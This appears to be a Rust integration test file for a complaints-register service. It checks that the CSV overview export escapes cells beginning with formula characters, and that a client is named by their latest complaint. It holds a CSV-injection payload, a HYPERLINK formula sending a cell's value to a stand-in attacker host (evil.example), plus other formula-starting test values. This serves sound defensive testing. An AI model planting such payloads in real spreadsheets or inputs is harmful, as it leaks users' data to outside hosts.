//! What the overview, its CSV and report, and the service's headers and logs give away
//! (issue 11, items 6, 7 and 11).

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::on_both_databases;
use crate::support::{DANA, KEES, Person, Reply, TestApp};
use klachtenregister::domain::roles::Role;

on_both_databases!(csv_cells_never_start_a_formula, a_client_is_named_by_their_latest_complaint,);

/// A dienstverlener whose id and name are formulas.
const FORMULA: Person = Person {
    org: crate::support::ORG_A,
    id: "=2+5",
    name: "@SUM(1+1)",
    roles: &[Role::Dienstverlener],
};

async fn get_as(app: &TestApp, path: &str, person: Person, accept: &str) -> Reply {
    let response = app
        .client
        .get(app.url(path))
        .bearer_auth(app.token(person))
        .header("accept", accept)
        .send()
        .await
        .unwrap();
    Reply::from(response).await
}

fn external(client: (&str, &str), received_at: &str, handler: &str) -> Value {
    json!({
        "kind": "complaint", "reported_by": "client", "received_at": received_at,
        "complainant": {"name": "Klager"},
        "client": {"id": client.0, "name": client.1},
        "matter_reference": "Z-1", "description": "Klacht", "handler_id": handler
    })
}

/// The CSV's cells, `section,key,value` each.
fn cells(text: &str) -> Vec<Vec<String>> {
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

async fn csv_cells_never_start_a_formula(app: TestApp) {
    let hyperlink = r#"=HYPERLINK("http://evil.example/?x="&A1,"Klik")"#;
    // The formula dienstverlener makes themselves known to the service.
    assert_eq!(app.get("/api/v1/complaints", FORMULA).await.status, StatusCode::OK);
    app.register(DANA, &external(("=1+1", hyperlink), "2026-11-02T08:00:00Z", "=2+5")).await;
    app.register(DANA, &external(("-3", "+31 6"), "2026-11-02T08:10:00Z", "dana")).await;
    let reply =
        get_as(&app, "/api/v1/overview?from=2026-11-01&to=2026-11-30", KEES, "text/csv").await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    assert_eq!(reply.header("content-type"), Some("text/csv; charset=utf-8"));
    let rows = cells(&reply.text);
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '@', '\t', '\r'])
                && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
            "a live formula: {cell:?}"
        );
    }
    let named = |section: &str, key: &str| {
        rows.iter().any(|r| r[0] == section && r[1] == key && r[2] == "1")
    };
    assert!(named("by_client", &format!("'{hyperlink}")), "{}", reply.text);
    assert!(named("by_client", "'+31 6"), "{}", reply.text);
    assert!(named("by_handler", "'@SUM(1+1)"), "{}", reply.text);
    // Numbers stay numbers.
    assert!(rows.iter().any(|r| r[0] == "total" && r[2] == "2"));
}

async fn a_client_is_named_by_their_latest_complaint(app: TestApp) {
    app.clock.set("2026-11-04T09:00:00Z".parse().unwrap());
    app.register(DANA, &external(("REL-1", "Zwart Beheer"), "2026-11-02T08:00:00Z", "dana")).await;
    app.register(DANA, &external(("REL-1", "Albers & Zn"), "2026-11-03T08:00:00Z", "dana")).await;
    let o = app.get("/api/v1/overview?from=2026-11-01&to=2026-11-30", KEES).await;
    assert_eq!(o.status, StatusCode::OK, "{}", o.text);
    assert_eq!(o.json["by_client"], json!([{"name": "Albers & Zn", "id": "REL-1", "count": 2}]));
}
